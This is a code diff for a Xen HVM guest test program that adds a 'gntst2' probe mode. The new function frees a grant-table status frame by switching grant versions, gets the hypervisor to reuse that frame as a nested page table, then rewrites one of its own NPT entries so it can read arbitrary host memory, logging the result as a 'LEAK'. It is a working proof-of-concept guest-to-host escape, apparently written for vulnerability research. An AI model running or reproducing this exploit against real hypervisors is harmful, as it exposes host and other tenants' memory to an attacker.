@@ -804,6 +804,57 @@ static void probe_gntst(const char *cmdline)
     say("hvmtest: gntst: the page at gfn %#lx never changed", (unsigned long)g);
 }
 
+/* mode=gntst2: as gntst, but the freed status frame is made a nested page
+ * table: two pages of quota (RAM at gfn= and 0xf00 given up), then one
+ * order-1 populate at gfn 0x20000 (512 MiB, a new 2 MiB region inside
+ * the GiB this guest maps 1:1): the data takes an order-1 block, the new
+ * L1 table the freed frame. The guest then writes entry 2 of its own NPT
+ * (gfn 0x20002 -> host frame 0) and reads host memory there. */
+static void probe_gntst2(const char *cmdline)
+{
+    uint64_t g = hexopt(cmdline, "gfn");
+    if (!g)
+        g = 0xe00;
+    uint64_t target = hexopt(cmdline, "target");
+    {
+        xen_pfn_t x = 0xf00;
+        struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
+        set_xen_guest_handle(r.extent_start, &x);
+        say("hvmtest: gntst2: decrease gfn 0xf00 = %ld",
+            hcall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint64_t)(uintptr_t)&r, 0, 0, 0));
+    }
+    struct gnttab_set_version sv = { .version = 2 };
+    long rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    struct xen_add_to_physmap xatp = { .domid = DOMID_SELF, .space = XENMAPSPACE_grant_table,
+                                       .idx = 0 | XENMAPIDX_grant_table_status, .gpfn = g };
+    rc = hcall(__HYPERVISOR_memory_op, XENMEM_add_to_physmap, (uint64_t)(uintptr_t)&xatp, 0, 0, 0);
+    say("hvmtest: gntst2: status frame 0 at gfn %#lx = %ld", (unsigned long)g, rc);
+    volatile uint64_t *pg = (volatile uint64_t *)(uintptr_t)(g << 12);
+    sv.version = 1;
+    rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    say("hvmtest: gntst2: set_version 1 = %ld", rc);
+    xen_pfn_t x = 0x20000;
+    struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 1, .domid = DOMID_SELF };
+    set_xen_guest_handle(r.extent_start, &x);
+    rc = hcall(__HYPERVISOR_memory_op, XENMEM_populate_physmap, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+    say("hvmtest: gntst2: populate order 1 at gfn 0x20000 = %ld", rc);
+    for (int k = 0; k < 512; k++)
+        if (pg[k])
+            say("hvmtest: gntst2:   gfn %#lx [%d] = %#lx", (unsigned long)g, k, (unsigned long)pg[k]);
+    uint64_t e0 = pg[0];
+    if (!(e0 & 1)) {
+        say("hvmtest: gntst2: no NPT entry seen at gfn %#lx", (unsigned long)g);
+        return;
+    }
+    pg[2] = (e0 & ~0x000ffffffffff000ULL) | (target << 12);
+    volatile uint64_t *h = (volatile uint64_t *)(uintptr_t)0x20002000UL;
+    say("LEAK hvmtest: gntst2: wrote own NPT entry gfn 0x20002 -> host mfn %#lx; reading it:",
+        (unsigned long)target);
+    for (int k = 0; k < 8; k++)
+        say("hvmtest: gntst2:   host mfn %#lx +%#x = %#lx", (unsigned long)target, k * 8,
+            (unsigned long)h[k]);
+}
+
 void hvmtest_main(uint64_t start_info)
 {
     const struct hvm_start_info *si = (const struct hvm_start_info *)(uintptr_t)start_info;
@@ -844,6 +895,8 @@ void hvmtest_main(uint64_t start_info)
         probe_lapicstorm(cmdline);
     else if (opt_is(cmdline, "mode", "gntst"))
         probe_gntst(cmdline);
+    else if (opt_is(cmdline, "mode", "gntst2"))
+        probe_gntst2(cmdline);
     else if (opt_is(cmdline, "mode", "triple")) {
         say("hvmtest: triple fault next");
         load_idt(0);
